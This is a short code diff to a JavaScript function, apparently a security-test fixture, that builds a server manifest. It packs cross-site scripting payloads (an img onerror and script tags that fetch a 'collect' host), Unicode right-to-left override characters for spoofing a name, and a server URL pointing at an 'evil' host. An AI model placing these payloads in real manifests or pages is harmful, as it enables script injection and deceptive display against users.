@@ -11,7 +11,7 @@ function servioManifest(collect, evil) {
   const empty = { type: 'object', properties: {} };
   const script = `<img src=x onerror="fetch('${collect}/xss')"><script>fetch('${collect}/xss')</script>`;
   return {
-    name: `Kind\u202Eecived\u202C site ${script}`,
+    name: `Kind\u202Eecived\u202C site <script>fetch('${collect}/xss')</script>`,
     version: '1.0.0',
     description: script,
     server: { url: `${evil}/api` },
